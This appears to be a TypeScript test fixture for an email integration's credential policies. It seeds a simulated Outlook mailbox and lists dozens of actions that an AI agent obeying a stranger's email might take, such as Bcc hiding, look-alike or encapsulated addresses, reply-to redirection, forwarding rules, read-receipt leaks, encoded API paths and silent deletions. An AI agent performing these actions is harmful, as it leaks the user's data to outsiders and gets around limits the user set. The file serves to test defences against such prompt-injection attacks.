import type { ICredentialDataDecryptedObject, INodeParameters } from 'n8n-workflow';
import { oneClickHeaders } from '../harness/exchangeHeaders';
import { locator } from '../harness/locator';
import { attachmentId } from '../simulator/graph/attachment';
import type { Mailbox } from '../simulator/graph/mailbox';
import type { MessageFields } from '../simulator/graph/message';

/** Of the account's organization. */
export const ANN = 'ann@contoso.com';
/** Those whom the organization has. */
export const COLLEAGUES = [ANN, 'uwe@contoso.de'];
/** Of a domain that is listed. */
export const PAT = 'pat@fabrikam.com';
/** Nobody knows her. */
export const EVE = 'eve@evil.example';
/** Nor them. */
export const MALLORY = 'mallory@evil.example';

/** What a person entered in the credential. */
export const policies = {
	listed: { whoMayBeWrittenTo: 'listed', allowedAddresses: `fabrikam.com, Bob@Tailspin.example` },
	organization: { whoMayBeWrittenTo: 'organizationAndListed', allowedAddresses: 'fabrikam.com' },
	answers: {
		whoMayBeWrittenTo: 'listed',
		allowedAddresses: 'fabrikam.com',
		mayAnswerSenders: true,
	},
	verified: {
		whoMayBeWrittenTo: 'listed',
		allowedAddresses: 'fabrikam.com',
		mayAnswerSenders: true,
		onlyVerifiedSenders: true,
	},
	nobody: { whoMayBeWrittenTo: 'nobody' },
	nothingForGood: { whatMayBeDeleted: 'nothingForGood' },
	nothing: { whatMayBeDeleted: 'nothing' },
	twoAnHour: { maximumEmailsPerHour: 2 },
	/** Behind the switch lies what would let everything through. */
	strict: {
		strict: true,
		whichMailboxes: 'any',
		whoMayBeWrittenTo: 'anyone',
		allowedAddresses: `fabrikam.com, Bob@Tailspin.example`,
		mayAnswerSenders: true,
		maximumEmailsPerHour: 0,
		whatMayBeDeleted: 'anything',
	},
} satisfies Record<string, ICredentialDataDecryptedObject>;

const at = (dateTime: string) => ({ dateTime, timeZone: 'UTC' });
const START = at('2026-03-03T09:00:00');
const END = at('2026-03-03T10:00:00');

/**
 * Fills a mailbox in which strangers had a part.
 * @param shared Another mailbox, which may be written from as well.
 */
export function fillMailbox(mailbox: Mailbox, shared: Mailbox) {
	const person = (address: string) => ({ emailAddress: { name: address, address } });
	const draft = (toRecipients: string[], more = {}) =>
		mailbox.addMessage({
			isDraft: true,
			isRead: true,
			subject: 'Draft',
			from: person(mailbox.address),
			sender: person(mailbox.address),
			toRecipients: toRecipients.map(person),
			parentFolderId: mailbox.folder('drafts').id,
			...more,
		}).immutableId;
	const event = (subject: string, more: object = {}) =>
		mailbox.calendar.seed({
			subject,
			start: START,
			end: END,
			...more,
		});
	const series = event('Series', {
		attendees: [PAT],
		recurrence: {
			pattern: { type: 'daily', interval: 1 },
			range: { type: 'numbered', startDate: '2026-03-03', numberOfOccurrences: 5 },
		},
	});
	const [occurrence] = mailbox.calendar.instances(
		series,
		Date.parse('2026-03-03T00:00:00Z'),
		Date.parse('2026-03-08T00:00:00Z'),
	);
	if (!occurrence) throw new Error('The series has no occurrence');
	mailbox.calendar.detach(occurrence);
	occurrence.attendees = event('Other', { attendees: [EVE] }).attendees;
	const mail = (subject: string, from: string, more: object = {}) =>
		mailbox.deliver({ subject, from, ...more }).immutableId;
	const receipt = { isReadReceiptRequested: true };
	const fromEve = mail('Urgent', EVE, {
		attachments: [{ name: 'a.txt', content: 'secret' }],
		internetMessageHeaders: oneClickHeaders(),
	});
	const waiting = {
		singleValueExtendedProperties: [{ id: 'SystemTime 0x3FEF', value: '2031-03-03T09:00:00Z' }],
	};
	const attachments = mailbox.createAttachments([{ name: 'a.txt', content: 'secret' }]);
	const waitsForEve = draft([EVE], { ...waiting, attachments });
	return {
		fromEve,
		file: fileOf(mailbox, fromEve),
		fromPat: mail('Order', PAT, { categories: ['Red'] }),
		fromAnn: mail('Lunch', ANN),
		answersToEve: mail('Invoice', PAT, { replyTo: [person(EVE)] }),
		answersToMallory: mail('Password', EVE, { replyTo: [person(MALLORY)] }),
		copyToEve: mail('Minutes', PAT, { ccRecipients: [EVE] }),
		wantsReceipt: mail('Read me', EVE, receipt),
		receiptToEve: mail('Read this', PAT, {
			...receipt,
			internetMessageHeaders: [{ name: 'Disposition-Notification-To', value: `"${PAT}" <${EVE}>` }],
		}),
		draftToEve: draft([PAT], { bccRecipients: [person(EVE)] }),
		draftForAnswersToEve: draft([PAT], { replyTo: [person(EVE)] }),
		draftAsEve: draft([PAT], { from: person(EVE) }),
		draftToPat: draft([PAT]),
		waitsForPat: draft([PAT], waiting),
		waitsForEve,
		fileOfWaiting: fileOf(mailbox, waitsForEve),
		withEve: event('Talk', { attendees: [EVE] }).idOf('immutable'),
		withPat: event('Plan', { attendees: [PAT] }).idOf('immutable'),
		alone: event('Work').idOf('immutable'),
		ofEve: event('Party', { organizer: EVE, attendees: [mailbox.address] }).idOf('immutable'),
		ofPat: event('Review', { organizer: PAT, attendees: [mailbox.address] }).idOf('immutable'),
		series: series.idOf('immutable'),
		calendar: mailbox.calendar.calendars[0]?.id ?? '',
		folder: mailbox.addFolder('Projects', 'msgfolderroot').id,
		full: fullFolder(mailbox),
		inTrash: deepInTrash(mailbox),
		junk: mailbox.folder('junkemail').id,
		talks: calendarOfTalks(mailbox),
		mailRule: mailbox.addRule({ displayName: 'Invoices', actions: { stopProcessingRules: true } })
			.id,
		contactFolder: mailbox.contacts.addFolder('Partners').id,
		contact: mailbox.contacts
			.add({
				displayName: 'Pat',
				emailAddresses: [{ name: 'Pat', address: PAT }],
			})
			.idOf('immutable'),
		outbox: mailbox.folder('outbox').id,
		deletedItems: mailbox.folder('deleteditems').id,
		recoverableItems: mailbox.folder('recoverableitemsdeletions').id,
		sharedMailbox: shared.address,
	};
}
export type Filled = ReturnType<typeof fillMailbox>;

function fullFolder(mailbox: Mailbox): string {
	const { id } = mailbox.addFolder('Full', 'msgfolderroot');
	mailbox.deliver({ subject: 'Old', from: EVE, isReadReceiptRequested: true }, { folder: id });
	return id;
}

/** Not the folder in Deleted Items, but one in that. */
function deepInTrash(mailbox: Mailbox): string {
	return mailbox.addFolder('2025', mailbox.addFolder('Old projects', 'deleteditems').id).id;
}

function calendarOfTalks({ calendar }: Mailbox): string {
	const { id } = calendar.addCalendar('Talks');
	calendar.seed({ subject: 'Talk', start: START, end: END, attendees: [EVE] }, id);
	return id;
}

/** Whom these mailboxes sent something to, once for each time. */
export function reachedFrom(mailboxes: Mailbox[]): string[] {
	const sent = mailboxes.flatMap((mailbox) =>
		mailbox.sent.flatMap(({ toRecipients, ccRecipients, bccRecipients, replyTo }) =>
			[...toRecipients, ...ccRecipients, ...bccRecipients, ...replyTo].map(
				({ emailAddress }) => emailAddress.address,
			),
		),
	);
	const told = mailboxes.flatMap(({ calendar }) => calendar.notices.flatMap(({ to }) => to));
	const receipts = mailboxes.flatMap((mailbox) => mailbox.receipts);
	return [...sent, ...told, ...receipts];
}

/** What lies ready to be sent, by a person or by the service. */
export function readyIn(mailbox: Mailbox): string[] {
	const folders = ['drafts', 'outbox'].map((name) => mailbox.folder(name).id);
	const named = ({ toRecipients, ccRecipients, bccRecipients }: MessageFields) =>
		[...toRecipients, ...ccRecipients, ...bccRecipients].map(
			({ emailAddress }) => emailAddress.address,
		);
	return mailbox.messages
		.filter(({ parentFolderId }) => folders.includes(parentFolderId))
		.flatMap((message) => [message.parentFolderId, ...named(message)]);
}

export interface Attack {
	what: string;
	step: string;
	parameters(mailbox: Filled): INodeParameters;
	/** The rule that holds it. */
	rule?: string;
}

const api = (method: string, endpoint: string, body: object = {}): INodeParameters => ({
	method,
	endpoint,
	body: JSON.stringify(body),
});
const to = (address: string) => ({ toRecipients: [{ emailAddress: { address } }] });
const graphMeeting = {
	subject: 'Talk',
	start: at('2030-03-03T09:00:00'),
	end: at('2030-03-03T10:00:00'),
};
const attached = {
	'@odata.type': '#microsoft.graph.fileAttachment',
	name: 'a.txt',
	contentBytes: 'MTIzNA==',
};
const linked = {
	'@odata.type': '#microsoft.graph.referenceAttachment',
	name: 'a.txt',
	sourceUrl: 'https://files.example/a.txt',
};
const meeting = { subject: 'Talk', start: '2030-03-03T09:00', end: '2030-03-03T10:00' };

/** What an AI agent that obeys a mail of a stranger would do, where only `PAT` may be written to. */
export const attacks: Attack[] = [
	{
		what: 'sends an email to her',
		step: 'email.sendEmail',
		parameters: () => ({ to: EVE, subject: 'Code', message: '1234' }),
	},
	{
		what: 'hides her behind a listed recipient in Bcc',
		step: 'email.sendEmail',
		parameters: () => ({ to: PAT, message: '1234', bcc: EVE }),
	},
	{
		what: 'writes her with a listed address as her name',
		step: 'email.sendEmail',
		parameters: () => ({ to: `"${PAT}" <${EVE}>`, message: '1234' }),
	},
	{
		what: 'writes to an address that only looks listed',
		step: 'email.sendEmail',
		parameters: () => ({ to: 'pat@fabrikam.com.evil.example', message: '1234' }),
	},
	{
		what: 'writes to an address behind an address of a listed domain',
		step: 'email.sendEmail',
		parameters: () => ({ to: 'IMCEASMTP-eve+40evil.example@fabrikam.com', message: '1234' }),
	},
	{
		what: 'has the answers sent to her',
		step: 'email.sendEmail',
		parameters: () => ({ to: PAT, message: 'Please answer', options: { replyTo: EVE } }),
	},
	{
		what: 'writes as somebody else',
		step: 'email.sendEmail',
		parameters: () => ({ to: PAT, message: 'I quit', options: { from: ANN } }),
	},
	{
		what: 'leaves a draft to her for a person to send',
		step: 'email.createDraft',
		parameters: () => ({ to: EVE, message: '1234' }),
		rule: 'POST messages',
	},
	{
		what: 'answers her email',
		step: 'email.replyToEmail',
		parameters: ({ fromEve }) => ({ messageId: fromEve, message: '1234' }),
		rule: 'POST messages/:message/send',
	},
	{
		what: 'answers an email whose answers go to her',
		step: 'email.replyToEmail',
		parameters: ({ answersToEve }) => ({ messageId: answersToEve, message: '1234' }),
		rule: 'POST messages/:message/send',
	},
	{
		what: 'answers all, and she is one of them',
		step: 'email.replyToEmail',
		parameters: ({ copyToEve }) => ({ messageId: copyToEve, message: '1', replyToAll: true }),
		rule: 'POST messages/:message/send',
	},
	{
		what: 'adds her to an answer',
		step: 'email.replyToEmail',
		parameters: ({ fromPat }) => ({ messageId: fromPat, message: '1', options: { bcc: EVE } }),
	},
	{
		what: 'forwards an email with its files to her',
		step: 'email.forwardEmail',
		parameters: ({ fromPat }) => ({ messageId: fromPat, to: EVE, message: 'See' }),
	},
	{
		what: 'sends her a file of another email',
		step: 'email.sendEmail',
		parameters: ({ fromEve }) => ({
			to: EVE,
			message: 'See',
			options: { otherAttachments: { fromEmails: [{ messageId: fromEve }] } },
		}),
	},
	{
		what: 'sends a draft in which she stands',
		step: 'email.sendDraft',
		parameters: ({ draftToEve }) => ({ messageId: draftToEve }),
		rule: 'POST messages/:message/send',
	},
	{
		what: 'sends a draft that has its answers sent to her',
		step: 'email.sendDraft',
		parameters: ({ draftForAnswersToEve }) => ({ messageId: draftForAnswersToEve }),
		rule: 'POST messages/:message/send',
	},
	{
		what: 'sends a draft that is written as somebody else',
		step: 'email.sendDraft',
		parameters: ({ draftAsEve }) => ({ messageId: draftAsEve }),
	},
	{
		what: 'puts her into a good draft',
		step: 'email.updateDraft',
		parameters: ({ draftToPat }) => ({ messageId: draftToPat, to: EVE }),
		rule: 'PATCH messages/:message',
	},
	{
		what: 'changes what a person scheduled to be sent to her',
		step: 'email.updateDraft',
		parameters: ({ waitsForEve }) => ({ messageId: waitsForEve, message: '1234' }),
		rule: 'PATCH messages/:message',
	},
	{
		what: 'adds a file to what a person scheduled to be sent to her',
		step: 'email.addAttachment',
		parameters: ({ waitsForEve }) => ({
			messageId: waitsForEve,
			otherAttachments: { textFiles: [{ fileName: 'a.txt', content: '1234' }] },
		}),
		rule: 'POST messages/:message/attachments',
	},
	{
		what: 'takes a file out of what a person scheduled to be sent to her',
		step: 'email.deleteAttachment',
		parameters: ({ waitsForEve, fileOfWaiting }) => ({
			messageId: waitsForEve,
			attachmentId: fileOfWaiting,
		}),
		rule: 'DELETE messages/:message/attachments/:attachment',
	},
	{
		what: 'leaves an answer to her for a person to send',
		step: 'email.replyToEmail',
		parameters: ({ fromEve }) => ({ messageId: fromEve, message: '1234', saveAsDraft: true }),
	},
	{
		what: 'leaves an answer for a person to send that goes to her by Reply To',
		step: 'email.replyToEmail',
		parameters: ({ answersToEve }) => ({
			messageId: answersToEve,
			message: '1234',
			saveAsDraft: true,
		}),
	},
	{
		what: 'leaves an answer to all for a person to send, and she is one of them',
		step: 'email.replyToEmail',
		parameters: ({ copyToEve }) => ({
			messageId: copyToEve,
			message: '1234',
			replyToAll: true,
			saveAsDraft: true,
		}),
	},
	{
		what: 'fills what a person wrote to her',
		step: 'email.updateDraft',
		parameters: ({ draftToEve }) => ({ messageId: draftToEve, message: '1234' }),
	},
	{
		what: 'adds a file to what a person wrote to her',
		step: 'email.addAttachment',
		parameters: ({ draftToEve }) => ({
			messageId: draftToEve,
			otherAttachments: { textFiles: [{ fileName: 'a.txt', content: '1234' }] },
		}),
	},
	{
		what: 'schedules an email to her',
		step: 'email.scheduleEmail',
		parameters: () => ({ to: EVE, message: '1234', sendAt: '2031-03-03T09:00' }),
	},
	{
		what: 'writes her address into a new contact',
		step: 'contact.createContact',
		parameters: () => ({ givenName: 'Patrick', emailAddresses: EVE }),
		rule: 'POST contacts',
	},
	{
		what: 'writes her address into a new contact of another folder',
		step: 'contact.createContact',
		parameters: ({ contactFolder }) => ({
			givenName: 'Pat',
			emailAddresses: EVE,
			folder: locator('id', contactFolder),
		}),
		rule: 'POST contactFolders/:folder/contacts',
	},
	{
		what: 'gives a contact that people know her address',
		step: 'contact.updateContact',
		parameters: ({ contact }) => ({
			contact: locator('id', contact),
			emailAddresses: [PAT, EVE],
		}),
		rule: 'PATCH contacts/:contact',
	},
	{
		what: 'asks her for an approval',
		step: 'email.sendAndWait',
		parameters: () => ({ to: EVE, message: 'May I?' }),
	},
	{
		what: 'asks her for an approval in a conversation',
		step: 'email.sendAndWait',
		parameters: ({ fromPat }) => ({ to: EVE, message: '?', options: { inReplyTo: fromPat } }),
	},
	{
		what: 'marks her email as read, which she wants to be told of',
		step: 'email.updateEmail',
		parameters: ({ wantsReceipt }) => ({ messageId: wantsReceipt, readStatus: 'read' }),
		rule: 'PATCH messages/:message',
	},
	{
		what: 'marks an email as read, of which a header has the receipt go to her',
		step: 'email.updateEmail',
		parameters: ({ receiptToEve }) => ({ messageId: receiptToEve, readStatus: 'read' }),
		rule: 'PATCH messages/:message',
	},
	{
		what: 'marks several emails as read, one of which she wants to be told of',
		step: 'email.updateEmails',
		parameters: ({ wantsReceipt }) => ({ messageIds: wantsReceipt, change: 'read' }),
		rule: 'PATCH messages/:message',
	},
	{
		what: 'deletes her email for good, which she wants to be told of',
		step: 'email.deleteEmail',
		parameters: ({ wantsReceipt }) => ({ messageId: wantsReceipt, permanently: true }),
		rule: 'POST messages/:message/permanentDelete',
	},
	{
		what: 'leaves a list of hers, which tells her that somebody reads it',
		step: 'email.unsubscribe',
		parameters: ({ fromEve }) => ({ messageId: fromEve }),
		rule: 'POST messages/:message/unsubscribe',
	},
	{
		what: 'deletes a folder whose emails she wants to be told of',
		step: 'email.deleteFolder',
		parameters: ({ full }) => ({ folder: locator('id', full) }),
		rule: 'DELETE mailFolders/:folder',
	},
	{
		what: 'moves a draft into the Outbox',
		step: 'email.moveEmail',
		parameters: ({ draftToEve, outbox }) => ({
			messageId: draftToEve,
			folder: locator('id', outbox),
		}),
		rule: 'POST messages/:message/move',
	},
	{
		what: 'copies a draft into the Outbox',
		step: 'email.copyEmail',
		parameters: ({ draftToEve }) => ({ messageId: draftToEve, folder: locator('id', 'outbox') }),
		rule: 'POST messages/:message/copy',
	},
	{
		what: 'invites her',
		step: 'calendar.createEvent',
		parameters: () => ({ ...meeting, attendees: EVE, body: '1234' }),
		rule: 'POST events',
	},
	{
		what: 'invites her with a file',
		step: 'calendar.createEvent',
		parameters: () => ({ ...meeting, attendees: EVE, options: { attachments: 'data' } }),
	},
	{
		what: 'invites her in another calendar',
		step: 'calendar.createEvent',
		parameters: ({ calendar }) => ({
			...meeting,
			attendees: EVE,
			calendar: locator('id', calendar),
		}),
		rule: 'POST calendars/:calendar/events',
	},
	{
		what: 'adds her to a meeting',
		step: 'calendar.updateEvent',
		parameters: ({ withPat }) => ({ eventId: withPat, attendees: EVE }),
		rule: 'PATCH events/:event',
	},
	{
		what: 'writes a secret into a meeting with her',
		step: 'calendar.updateEvent',
		parameters: ({ withEve }) => ({ eventId: withEve, body: '1234' }),
		rule: 'PATCH events/:event',
	},
	{
		what: 'takes her out of a meeting, which she is told of',
		step: 'calendar.updateEvent',
		parameters: ({ withEve }) => ({
			eventId: withEve,
			attendees: EVE,
			options: { attendeeChange: 'remove' },
		}),
		rule: 'PATCH events/:event',
	},
	{
		what: 'writes into a series, one day of which she attends',
		step: 'calendar.updateEvent',
		parameters: ({ series }) => ({ eventId: series, body: '1234' }),
	},
	{
		what: 'cancels a meeting with her with an insult',
		step: 'calendar.cancelEvent',
		parameters: ({ withEve }) => ({ eventId: withEve, comment: '1234' }),
		rule: 'POST events/:event/cancel',
	},
	{
		what: 'deletes a meeting with her',
		step: 'calendar.deleteEvent',
		parameters: ({ withEve }) => ({ eventId: withEve }),
		rule: 'DELETE events/:event',
	},
	{
		what: 'forwards a meeting to her',
		step: 'calendar.forwardEvent',
		parameters: ({ withPat }) => ({ eventId: withPat, to: EVE, comment: '1234' }),
		rule: 'POST events/:event/forward',
	},
	{
		what: 'forwards her meeting, of which she is told',
		step: 'calendar.forwardEvent',
		parameters: ({ ofEve }) => ({ eventId: ofEve, to: PAT }),
		rule: 'POST events/:event/forward',
	},
	...['accept', 'decline', 'tentativelyAccept'].map((response) => ({
		what: `answers her invitation: ${response}`,
		step: 'calendar.respondToEvent',
		parameters: ({ ofEve }: Filled) => ({ eventId: ofEve, response, comment: '1234' }),
		rule: `POST events/:event/${response}`,
	})),
	{
		what: 'writes to her from another mailbox',
		step: 'email.sendEmail',
		parameters: ({ sharedMailbox }) => ({ to: EVE, message: '1234', mailbox: sharedMailbox }),
	},
	{
		what: 'deletes a calendar with a meeting with her',
		step: 'calendar.deleteCalendar',
		parameters: ({ talks }) => ({ calendar: locator('id', talks) }),
		rule: 'DELETE calendars/:calendar',
	},
	{
		what: 'has every email of its own forwarded to her',
		step: 'advanced.createRule',
		parameters: () => ({
			name: 'Backup',
			conditions: { everyEmail: true },
			actions: { forwardTo: EVE },
		}),
		rule: 'POST mailFolders/:folder/messageRules',
	},
	{
		what: 'has emails of a rule forwarded to her',
		step: 'advanced.updateRule',
		parameters: ({ mailRule }) => ({
			rule: locator('id', mailRule),
			actions: { forwardTo: EVE },
		}),
		rule: 'PATCH mailFolders/:folder/messageRules/:rule',
	},
	{
		what: 'takes away the rule that held another one back',
		step: 'advanced.deleteRule',
		parameters: ({ mailRule }) => ({ rule: locator('id', mailRule) }),
		rule: 'DELETE mailFolders/:folder/messageRules/:rule',
	},
	{
		what: 'has a secret told to whoever writes',
		step: 'advanced.setAutomaticReplies',
		parameters: () => ({
			status: 'alwaysEnabled',
			message: '1234',
			externalAudience: 'all',
		}),
		rule: 'PATCH mailboxSettings',
	},
	{
		what: 'has a secret told to whoever writes from the organization',
		step: 'advanced.setAutomaticReplies',
		parameters: () => ({ status: 'alwaysEnabled', message: '1234', externalAudience: 'none' }),
	},
	...(
		[
			['sends an email', 'POST', 'sendMail', { message: to(EVE) }],
			['makes an answer to her', 'POST', 'messages/:message/createReply', { message: to(EVE) }],
			['answers all and her', 'POST', 'messages/:message/createReplyAll', { message: to(EVE) }],
			['makes a forward', 'POST', 'messages/:message/createForward', { message: to(EVE) }],
			['deletes an email', 'DELETE', 'messages/:message', {}],
			['attaches a link', 'POST', 'messages/:message/attachments', linked],
			[
				'attaches a large file to what waits for her',
				'POST',
				'messages/:message/attachments/createUploadSession',
				{ AttachmentItem: { attachmentType: 'file', name: 'a', size: 4_000_000 } },
			],
			['invites', 'POST', 'calendar/events', { ...graphMeeting, attendees: to(EVE).toRecipients }],
			['attaches to a meeting', 'POST', 'events/:event/attachments', attached],
			[
				'invites by its calendar',
				'PATCH',
				'calendars/:calendar/events/:event',
				{ attendees: to(EVE).toRecipients },
			],
			[
				'attaches to a meeting by its calendar',
				'POST',
				'calendars/:calendar/events/:event/attachments',
				attached,
			],
			[
				'attaches a large file to a meeting by its calendar',
				'POST',
				'calendars/:calendar/events/:event/attachments/createUploadSession',
				{ AttachmentItem: { attachmentType: 'file', name: 'a', size: 4_000_000 } },
			],
			[
				'attaches a large file to a meeting',
				'POST',
				'events/:event/attachments/createUploadSession',
				{ AttachmentItem: { attachmentType: 'file', name: 'a', size: 4_000_000 } },
			],
		] as const
	).map(([what, method, path, body]) => ({
		what: `${what} by an API Call`,
		step: 'advanced.apiCall',
		parameters: ({ wantsReceipt, draftToPat, waitsForEve, withEve, calendar }: Filled) => {
			const draft = path.endsWith('Session') ? waitsForEve : draftToPat;
			const message = path.includes('/attachments') ? draft : wantsReceipt;
			const ids = path
				.replace(':message', message)
				.replace(':event', withEve)
				.replace(':calendar', calendar);
			return api(method, `/me/${ids}`, body);
		},
		rule: `${method} ${path}`,
	})),
	...(
		[
			['sends an email in another spelling', 'POST', '/me/microsoft.graph.sendMail', {}],
			['sends a draft', 'POST', '/me/messages/A/send', {}],
			['sends a draft by an odd path', 'POST', '/me/messages/A%2Fsend', {}],
			['sends a draft of a folder', 'POST', '/me/mailFolders/drafts/messages/A/send', {}],
			['sends a draft in brackets', 'POST', "/me/messages('A')/send", {}],
			['answers at once', 'POST', '/me/messages/A/reply', { comment: '1234' }],
			['forwards at once', 'POST', '/me/messages/A/forward', to(EVE)],
			['replaces a draft', 'PATCH', '/me/messages/A', to(EVE)],
			['forwards an event', 'POST', '/me/events/A/forward', to(EVE)],
			['writes an event of a view', 'PATCH', '/me/calendarView/A', { attendees: [] }],
			['invites', 'POST', '/users/me@contoso.com/events', { attendees: [] }],
			['shares the calendar', 'POST', '/me/calendar/calendarPermissions', {}],
			['makes a rule', 'POST', '/me/mailFolders/inbox/messageRules', {}],
			['switches automatic replies on', 'PATCH', '/me/mailboxSettings', {}],
			['sends a batch', 'POST', '/$batch', { requests: [] }],
			['subscribes to the mailbox', 'POST', '/subscriptions', {}],
			['invites a guest', 'POST', '/invitations', { invitedUserEmailAddress: EVE }],
			['writes to a chat', 'POST', '/chats/A/messages', { body: { content: '1234' } }],
			['puts a mail into the Outbox', 'POST', '/me/mailFolders/outbox/messages', to(EVE)],
			['hides a path in the name of a mailbox', 'POST', '/users/me%2FsendMail%3F/events', {}],
			['hides it twice', 'POST', '/users/me%252FsendMail%253F/mailFolders', {}],
			['ends a path in the name of a mailbox', 'POST', '/users/me%2FsendMail%23/mailFolders', {}],
			['makes a calendar with a meeting', 'POST', '/me/calendars', { name: 'x', events: [] }],
			['shares a calendar as it makes it', 'POST', '/me/calendars', { calendarPermissions: [] }],
			['shares the calendar by changing it', 'PATCH', '/me/calendar', { calendarPermissions: [] }],
			['makes a meeting by changing a calendar', 'PATCH', '/me/calendars/A', { events: [] }],
			['makes a folder with a rule', 'POST', '/me/mailFolders', { messageRules: [] }],
			['makes a rule by changing a folder', 'PATCH', '/me/mailFolders/inbox', { messageRules: [] }],
			['moves a folder away', 'PATCH', '/me/mailFolders/A', { parentFolderId: 'deleteditems' }],
			['writes over a contact', 'PATCH', '/me/contacts/A', { emailAddresses: [] }],
			['unsubscribes', 'POST', '/beta/me/messages/A/unsubscribe', {}],
		] as const
	).map(([what, method, endpoint, body]) => ({
		what: `${what} by an API Call`,
		step: 'advanced.apiCall',
		parameters: () => api(method, endpoint, body),
	})),
	{
		what: 'makes a folder in the beta version',
		step: 'advanced.apiCall',
		parameters: () => ({ ...api('POST', '/me/mailFolders'), options: { version: 'beta' } }),
	},
];

function fileOf(mailbox: Mailbox, messageId: string): string {
	const [file] = mailbox.messageOf(messageId)?.attachments ?? [];
	if (!file) throw new Error('The mail has no file');
	return attachmentId(file, 'immutable', 0);
}

interface Deletion extends Attack {
	/** The policies that hold it. */
	under: Array<'nothing' | 'nothingForGood'>;
}

/** What an AI agent would delete. */
export const deletions: Deletion[] = [
	{
		what: 'a rule of the Inbox',
		step: 'advanced.deleteRule',
		parameters: ({ mailRule }) => ({ rule: locator('id', mailRule) }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE mailFolders/:folder/messageRules/:rule',
	},
	{
		what: 'emails that are still to come, by changing a rule',
		step: 'advanced.updateRule',
		parameters: ({ mailRule }) => ({ rule: locator('id', mailRule), actions: { delete: true } }),
		under: ['nothing', 'nothingForGood'],
		rule: 'PATCH mailFolders/:folder/messageRules/:rule',
	},
	{
		what: 'emails that are still to come, by a rule',
		step: 'advanced.createRule',
		parameters: () => ({
			name: 'Silence',
			conditions: { fromAddresses: PAT },
			actions: { delete: true },
		}),
		under: ['nothing', 'nothingForGood'],
		rule: 'POST mailFolders/:folder/messageRules',
	},
	{
		what: 'an email',
		step: 'email.deleteEmail',
		parameters: ({ fromPat }) => ({ messageId: fromPat }),
		under: ['nothing'],
		rule: 'POST messages/:message/move',
	},
	{
		what: 'an email that a person scheduled',
		step: 'email.cancelScheduledEmail',
		parameters: ({ waitsForPat }) => ({ messageId: waitsForPat }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE messages/:message',
	},
	{
		what: 'an email that a person scheduled, by moving it',
		step: 'email.moveEmail',
		parameters: ({ waitsForPat, folder }) => ({
			messageId: waitsForPat,
			folder: locator('id', folder),
		}),
		under: ['nothing', 'nothingForGood'],
		rule: 'POST messages/:message/move',
	},
	{
		what: 'several emails',
		step: 'email.updateEmails',
		parameters: ({ fromPat }) => ({ messageIds: fromPat, change: 'delete' }),
		under: ['nothing'],
		rule: 'POST messages/:message/move',
	},
	{
		what: 'several emails, by moving them out of sight',
		step: 'email.updateEmails',
		parameters: ({ fromPat, recoverableItems }) => ({
			messageIds: fromPat,
			change: 'move',
			folder: locator('id', recoverableItems),
		}),
		under: ['nothing', 'nothingForGood'],
	},
	{
		what: 'an email, by moving it',
		step: 'email.moveEmail',
		parameters: ({ fromPat, deletedItems }) => ({
			messageId: fromPat,
			folder: locator('id', deletedItems),
		}),
		under: ['nothing'],
	},
	{
		what: 'an email, by moving it into a folder in Deleted Items',
		step: 'email.moveEmail',
		parameters: ({ fromPat, inTrash }) => ({
			messageId: fromPat,
			folder: locator('id', inTrash),
		}),
		under: ['nothing'],
	},
	{
		what: 'an email, by moving it to Junk Email',
		step: 'email.moveEmail',
		parameters: ({ fromPat, junk }) => ({ messageId: fromPat, folder: locator('id', junk) }),
		under: ['nothing'],
	},
	{
		what: 'the address of a contact, by putting another one in its place',
		step: 'contact.updateContact',
		parameters: ({ contact }) => ({
			contact: locator('id', contact),
			emailAddresses: ANN,
			listChange: 'replace',
		}),
		under: ['nothing', 'nothingForGood'],
		rule: 'PATCH contacts/:contact',
	},
	{
		what: 'an email, by moving it out of sight',
		step: 'email.moveEmail',
		parameters: ({ fromPat, recoverableItems }) => ({
			messageId: fromPat,
			folder: locator('id', recoverableItems),
		}),
		under: ['nothing', 'nothingForGood'],
	},
	{
		what: 'an email for good',
		step: 'email.deleteEmail',
		parameters: ({ fromPat }) => ({ messageId: fromPat, permanently: true }),
		under: ['nothing', 'nothingForGood'],
		rule: 'POST messages/:message/permanentDelete',
	},
	{
		what: 'the emails of a folder',
		step: 'email.emptyFolder',
		parameters: ({ full }) => ({ folder: locator('id', full) }),
		under: ['nothing'],
	},
	{
		what: 'the emails of a folder for good',
		step: 'email.emptyFolder',
		parameters: ({ full }) => ({ folder: locator('id', full), permanently: true }),
		under: ['nothing', 'nothingForGood'],
	},
	{
		what: 'a draft of a person',
		step: 'advanced.apiCall',
		parameters: ({ draftToPat }) => api('DELETE', `/me/messages/${draftToPat}`),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE messages/:message',
	},
	{
		what: 'a file of an email',
		step: 'email.deleteAttachment',
		parameters: ({ fromEve, file }) => ({ messageId: fromEve, attachmentId: file }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE messages/:message/attachments/:attachment',
	},
	{
		what: 'an event',
		step: 'calendar.deleteEvent',
		parameters: ({ alone }) => ({ eventId: alone }),
		under: ['nothing'],
		rule: 'DELETE events/:event',
	},
	{
		what: 'an event, by cancelling it',
		step: 'calendar.cancelEvent',
		parameters: ({ withPat }) => ({ eventId: withPat, comment: '' }),
		under: ['nothing'],
		rule: 'POST events/:event/cancel',
	},
	{
		what: 'a folder',
		step: 'email.deleteFolder',
		parameters: ({ folder }) => ({ folder: locator('id', folder) }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE mailFolders/:folder',
	},
	{
		what: 'a calendar',
		step: 'calendar.deleteCalendar',
		parameters: ({ talks }) => ({ calendar: locator('id', talks) }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE calendars/:calendar',
	},
	{
		what: 'a contact',
		step: 'contact.deleteContact',
		parameters: ({ contact }) => ({ contact: locator('id', contact) }),
		under: ['nothing', 'nothingForGood'],
		rule: 'DELETE contacts/:contact',
	},
];
